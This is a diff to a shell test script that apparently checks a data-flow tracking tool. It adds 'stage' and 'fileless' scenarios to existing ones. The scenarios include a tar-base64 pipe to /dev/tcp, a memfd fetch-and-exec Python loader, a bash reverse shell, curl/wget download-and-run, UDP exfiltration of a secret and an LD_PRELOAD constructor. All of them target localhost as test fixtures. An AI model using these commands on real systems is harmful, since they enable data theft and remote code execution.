@@ -21,6 +21,9 @@
 #   revshell  bash <&3 >&3 on /dev/tcp: a reverse shell runs the commands an attacker
 #             (a listener reading cmds) sends, its output goes back
 #   udpx      a secret sent in a UDP datagram to a local receiver
+#   stage     tar -cz | base64 | bash -c 'cat > /dev/tcp/...': a directory
+#             staged and sent through a pipeline to a listener
+#   fileless  python fetches an ELF into a memfd and execs /proc/self/fd/N
 #   spool     cp of a crontab-like file into a spool directory
 set -eu
 top=${BTRACK_TOP:?}
@@ -42,6 +45,8 @@ P1=$((20000 + $$ % 20000))
 P2=$((P1 + 1))
 P3=$((P1 + 2))
 P4=$((P1 + 3))
+P5=$((P1 + 4))
+P6=$((P1 + 5))
 
 SCENARIOS="
 dlrun	python3 -m http.server --bind 127.0.0.1 --directory srv $P1 > /dev/null 2>&1 & s=\$!; python3 ../listen.py $P2 & l=\$!; while [ ! -e ready ]; do sleep 0.05; done; until curl -s -o drop http://127.0.0.1:$P1/payload.sh; do sleep 0.1; done; chmod +x drop; ./drop $P2; wait \$l; wget -q -O drop2 http://127.0.0.1:$P1/payload.sh; python3 -c 'import sys, urllib.request; urllib.request.urlretrieve(sys.argv[1], \"drop3\")' http://127.0.0.1:$P1/payload.sh; curl -s -o page http://127.0.0.1:$P1/decoy2; kill \$s; wait \$s || true; cat decoy > /dev/null
@@ -54,6 +59,8 @@ tarcmd	tar -xf in.tar --to-command='cat > \"\$(basename \$TAR_FILENAME).out\"'; 
 reasm	split -b 8 secret part.; cat part.* > whole; base64 whole > blob; cat decoy > /dev/null; base64 -d blob > dec
 revshell	python3 ../attacker.py $P3 & a=\$!; while [ ! -e ready ]; do sleep 0.05; done; bash -c 'exec 3<>/dev/tcp/127.0.0.1/$P3; exec bash <&3 >&3 3>&-'; wait \$a; cat decoy > /dev/null
 udpx	python3 ../udprecv.py $P4 & u=\$!; while [ ! -e ready ]; do sleep 0.05; done; python3 -c 'import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(open(\"secret\", \"rb\").read(), (\"127.0.0.1\", int(sys.argv[1])))' $P4; wait \$u; cat decoy > /dev/null
+stage	python3 ../listen.py $P5 & l=\$!; while [ ! -e ready ]; do sleep 0.05; done; tar -cz data | base64 | bash -c 'cat > /dev/tcp/127.0.0.1/$P5'; wait \$l; cat decoy > /dev/null
+fileless	python3 -m http.server --bind 127.0.0.1 --directory srv $P6 > /dev/null 2>&1 & s=\$!; python3 ../fileless.py http://127.0.0.1:$P6/p.elf; kill \$s; wait \$s || true; cat decoy > /dev/null
 spool	mkdir -p spool/crontabs; cp job spool/crontabs/root; cat decoy > /dev/null
 "
 
@@ -104,20 +111,26 @@ revshell	back	file:@/reply	none	reaches	file:@/secret
 udpx	back	file:@/uloot	none	reaches	file:@/secret
 udpx	back	file:@/uloot	none	lacks	file:@/decoy
 udpx	fwd	file:@/secret	none	reaches	file:@/uloot
+stage	back	file:@/loot	none	reaches	file:@/data/secret
+stage	back	file:@/loot	none	lacks	file:@/decoy
+stage	fwd	file:@/data/secret	none	reaches	file:@/loot
+fileless	back	file:@/out	none	reaches	file:@/secret	file:@/srv/p.elf
+fileless	back	file:@/out	none	lacks	file:@/decoy
+fileless	fwd	file:@/srv/p.elf	none	reaches	file:@/out
 spool	back	file:@/spool/crontabs/root	none	reaches	file:@/job
 spool	back	file:@/spool/crontabs/root	none	lacks	file:@/decoy
 '
 CHECKS=$(echo "$CHECKS" | sed "s/PORT2/$P2/g")
 
 DESIGN='
-auditd:inplace-ed:fwd#26  audit logs no write(2): every process holding a descriptor open for writing may have written through it until it lets go; perl inherited the shell's `exec 3>> c3` (the old c3, renamed c3.bak by python) and is taken as a writer of it, which python then reads
+auditd:inplace-ed:fwd#26  audit logs no write(2): every process holding a descriptor open for writing may have written through it until it lets go; perl inherited fd 3 of the shell (exec 3>> c3) (the old c3, renamed c3.bak by python) and is taken as a writer of it, which python then reads
 '
 
 KNOWN='
 '
 
 prepare() {
-	for w in revshell udpx dlrun ldso preload gccdrop inplace-ed sortself tarcmd reasm spool; do
+	for w in stage fileless revshell udpx dlrun ldso preload gccdrop inplace-ed sortself tarcmd reasm spool; do
 		echo "the $w secret $$" >"$1/$w/secret"
 		echo "decoy $$" >"$1/$w/decoy"
 	done
@@ -192,6 +205,22 @@ C
 	cc -o "$1/ldso/prog" "$1/prog.c"
 	printf 'b\na\n' >"$1/preload/in"
 	# the injected library writes its mark into the victim's stdout
+	mkdir -p "$1/stage/data" "$1/fileless/srv"
+	echo "the staged secret $$" >"$1/stage/data/secret"
+	cc -o "$1/fileless/srv/p.elf" "$1/prog.c"
+	# fileless: the payload downloaded into a memfd and run from it
+	cat >"$1/fileless.py" <<'PY'
+import os, sys, time, urllib.request
+for i in range(100):
+    try:
+        d = urllib.request.urlopen(sys.argv[1]).read()
+        break
+    except OSError:
+        time.sleep(0.1)
+fd = os.memfd_create("x", 0)
+os.write(fd, d)
+os.execv("/proc/self/fd/%d" % fd, ["x", "secret", "out"])
+PY
 	cat >"$1/preload/evil.c" <<'C'
 #include <unistd.h>
 __attribute__((constructor)) static void evil(void)
